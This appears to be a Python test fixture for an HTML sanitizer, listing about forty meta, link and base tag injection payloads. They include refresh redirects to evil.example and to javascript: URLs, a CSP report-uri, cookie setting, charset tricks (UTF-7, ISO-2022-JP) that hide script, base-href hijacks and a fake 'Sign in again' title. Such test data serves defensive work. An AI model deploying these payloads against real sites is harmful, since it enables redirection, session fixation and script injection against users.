"""META, LINK and BASE, which hold for the whole document wherever they stand."""
# ruff: noqa: E501 -- an attack is easier to read in one piece

ATTACKS = {
    "a refresh": "<meta http-equiv=refresh content='0;url=//evil.example/refresh'>x",
    "a refresh of the site itself": "<meta http-equiv=refresh content='0;url=/evil/refresh'>x",
    "a refresh to a script": "<meta http-equiv=refresh content='0;url=javascript:boom()'>x",
    "a refresh to data": (
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>boom()</script>'>x"
    ),
    "a refresh without a word before its address": (
        "<meta http-equiv=Refresh content='0,//evil.example/refresh2'>x"
    ),
    "a refresh with a name in capitals": "<META HTTP-EQUIV=REFRESH CONTENT='.0; //evil.example/r3'>x",
    "a refresh in a noscript": (
        "<noscript><meta http-equiv=refresh content='0;url=//evil.example/r4'></noscript>x"
    ),
    "a refresh that repeats the page": "<meta http-equiv=refresh content=0>x",
    "a policy that allows": (
        "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">"
        "<img src=x onerror=boom()>"
    ),
    "a policy that reports": (
        "<meta http-equiv=Content-Security-Policy content='default-src x;"
        "report-uri //evil.example/report'><img src=/evil/y>x"
    ),
    "a cookie": "<meta http-equiv=Set-Cookie content='sessionid=evil'>x",
    "a character set": "<meta charset=utf-7>+ADw-script+AD4-boom()+ADw-/script+AD4-x",
    "a character set by its header": (
        "<meta http-equiv=Content-Type content='text/html;charset=iso-2022-jp'>\x1b$B<img "
        "\x1b(Bsrc=x onerror=boom()>x"
    ),
    "a referrer": "<meta name=referrer content=unsafe-url><img src=//evil.example/ref.png>x",
    "a look-up of names": (
        "<meta http-equiv=x-dns-prefetch-control content=on>"
        "<link rel=dns-prefetch href=//look-up.evil.example>x"
    ),
    "a view port": "<meta name=viewport content='width=1,initial-scale=99'>x",
    "a colour scheme": "<meta name=color-scheme content=dark>x",
    "a trial of the browser": "<meta http-equiv=origin-trial content=AAAA>x",
    "a client hint": "<meta http-equiv=Accept-CH content='Sec-CH-UA-Full-Version'>x",
    "a style sheet": "<link rel=stylesheet href=//evil.example/a.css>x",
    "an alternate style sheet": "<link rel='alternate stylesheet' href=/evil/b.css title=x>x",
    "a style sheet in the middle of words": "<p>a<link href=//evil.example/c.css rel=STYLESHEET>b</p>",
    "a prefetch": "<link rel=prefetch href=//evil.example/>x",
    "a preload": "<link rel=preload as=image href=//evil.example/p.png>x",
    "a preload of a set": "<link rel=preload as=image imagesrcset='//evil.example/q.png 1x'>x",
    "a preload of a font": "<link rel=preload as=font crossorigin href=/evil/f.woff2>x",
    "a connection": "<link rel=preconnect href=//evil.example>x",
    "a rendering ahead": "<link rel=prerender href=//evil.example/pre>x",
    "rules for rendering ahead": (
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/evil/pre"]}]}'
        "</script>x"
    ),
    "an icon": "<link rel=icon href=//evil.example/favicon.ico>x",
    "an icon of the site itself": "<link rel='shortcut icon' href=/evil/favicon.ico>x",
    "a manifest": "<link rel=manifest href=//evil.example/manifest.json>x",
    "an import of HTML": "<link rel=import href=//evil.example/import.html>x",
    "a search": "<link rel=search type=application/opensearchdescription+xml href=/evil/s.xml>x",
    "a pingback": "<link rel=pingback href=//evil.example/pingback>x",
    "a dictionary": "<link rel=compression-dictionary href=/evil/d>x",
    "an address for all others": "<base href=//evil.example/><a href=x>y</a><img src=base.png>",
    "a script as the address for all others": "<base href=javascript:/boom()//><a href=#>x</a>",
    "a target for all others": "<base target=_top><a href=/evil/base>x</a>",
    "a base in the middle of words": "<p>a<base href=/evil/>b<img src=c.png></p>",
    "a title that takes the tab": "<title>Sign in again</title>x",
}
